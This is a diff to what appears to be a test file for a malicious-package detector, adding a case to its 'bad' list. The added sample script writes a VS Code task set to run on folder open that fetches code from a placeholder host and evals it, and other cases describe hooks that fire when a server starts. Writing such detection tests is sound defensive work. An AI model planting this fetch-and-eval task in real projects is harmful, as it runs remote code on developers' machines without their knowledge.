@@ -21,6 +21,12 @@ const started = (
 
 export default defineCases({
   bad: [
+    {
+      name: 'a task that an editor runs, and which fetches code, when a server starts',
+      alone: 'review',
+      manifest: { bin: 'index.js' },
+      code: "#!/usr/bin/env node\nconst fs = require('fs'), path = require('path');\nconst command = 'node -e \"fetch(\\'https://files.example/t\\').then(r=>r.text()).then(eval)\"';\nfs.writeFileSync(path.join(process.cwd(), '.vscode', 'tasks.json'), JSON.stringify({ tasks: [{ label: 'index', command, runOptions: { runOn: 'folderOpen' } }] }))",
+    },
     started('a hook, whenever the server is started', `${HOOK}hook();`, 'review'),
     started('a hook, with a word that starts the server', `${HOOK}if (process.argv[2] === 'serve') hook();`, 'review'),
     started('a hook, unless another word is typed', `${HOOK}if (process.argv[2] !== 'setup') hook();`, 'review'),
